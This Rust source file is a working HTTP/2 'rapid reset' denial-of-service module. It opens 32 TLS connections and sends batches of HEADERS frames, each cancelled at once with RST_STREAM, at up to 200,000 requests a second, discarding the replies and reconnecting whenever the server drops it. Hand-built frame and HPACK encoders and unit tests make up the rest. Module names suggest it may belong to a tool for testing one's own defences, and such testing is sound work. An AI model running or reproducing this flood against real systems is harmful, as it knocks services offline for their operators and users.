//! Rapid reset: requests that are taken back before they can be answered, which a limit on requests at once does not see.

use std::sync::Arc;
use std::sync::atomic::Ordering;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio_rustls::TlsConnector;

use super::Attack;
use crate::shield::speaker;

/// Connections at once.
pub(super) const CONNECTIONS: u32 = 32;
/// Requests a second, all together, at the most.
pub(super) const REQUESTS_S: u32 = 200_000;
/// Requests that go out together.
const BATCH: u32 = 100;
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const END_STREAM_AND_HEADERS: u8 = 5;
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// One connection after the other, each until the node ends it.
pub(super) async fn attack(attack: Arc<Attack>, number: usize) {
    let connector = TlsConnector::from(Arc::clone(&attack.tls));
    let Ok(name) = speaker::server_name() else {
        return;
    };
    loop {
        let socket = attack.dial(number, attack.orders.target.tls).await;
        if let Ok(stream) = connector.connect(name.clone(), socket).await {
            let (mut reader, mut writer) = tokio::io::split(stream);
            // What is answered is thrown away; a node that waits for its reader would be spared.
            let read = async {
                let mut heard = vec![0; 16 << 10];
                while matches!(reader.read(&mut heard).await, Ok(1..)) {}
            };
            let write = async {
                let mut opening = PREFACE.to_vec();
                opening.extend(frame(SETTINGS, 0, 0, &[]));
                if writer.write_all(&opening).await.is_err() {
                    return;
                }
                let fields = fields(&attack.orders.path);
                let mut stream = 1;
                loop {
                    attack.resets.turn(BATCH).await;
                    if writer.write_all(&batch(stream, &fields)).await.is_err() {
                        return;
                    }
                    let sent = writer.flush().await;
                    attack
                        .requests
                        .fetch_add(u64::from(BATCH), Ordering::Relaxed);
                    stream += 2 * BATCH;
                    if sent.is_err() {
                        return;
                    }
                }
            };
            tokio::select! {
                () = read => {}
                () = write => {}
            }
        }
        attack.ended();
    }
}

fn batch(first: u32, fields: &[u8]) -> Vec<u8> {
    let streams = (0..BATCH).map(|at| first + 2 * at);
    let pairs = streams.flat_map(|stream| {
        let mut pair = frame(HEADERS, END_STREAM_AND_HEADERS, stream, fields);
        pair.extend(frame(RST_STREAM, 0, stream, &CANCEL));
        pair
    });
    pairs.collect()
}

/// A frame (RFC 9113 section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// A request's fields, without the dynamic table (RFC 7541 section 6.2.2): `GET`, `https`, the path, the host.
fn fields(path: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x87];
    for (name, value) in [(0x04, path), (0x01, "localhost")] {
        block.push(name);
        // Seven bits of the length, and what is left of it by seven (RFC 7541 section 5.1).
        let length = value.len();
        if length < 127 {
            block.push(u8::try_from(length).unwrap_or(0));
        } else {
            block.push(127);
            let mut left = length - 127;
            while left >= 128 {
                block.push(u8::try_from(left % 128).unwrap_or(0) | 128);
                left /= 128;
            }
            block.push(u8::try_from(left).unwrap_or(0));
        }
        block.extend(value.as_bytes());
    }
    block
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lengths_are_written_as_the_standard_has_them() {
        // RFC 7541 appendix C.1.2, with a prefix of seven bits: 1337 - 127 = 1210 = 9 * 128 + 58.
        let block = fields(&"p".repeat(1337));
        assert_eq!(block[..6], [0x82, 0x87, 0x04, 127, 58 | 128, 9]);
        assert_eq!(fields("/")[2..5], [0x04, 1, b'/']);
        assert_eq!(
            frame(3, 0, 5, &CANCEL),
            [0, 0, 4, 3, 0, 0, 0, 0, 5, 0, 0, 0, 8]
        );
        assert_eq!(batch(1, &[0x82]).len(), 100 * (10 + 13));
    }
}
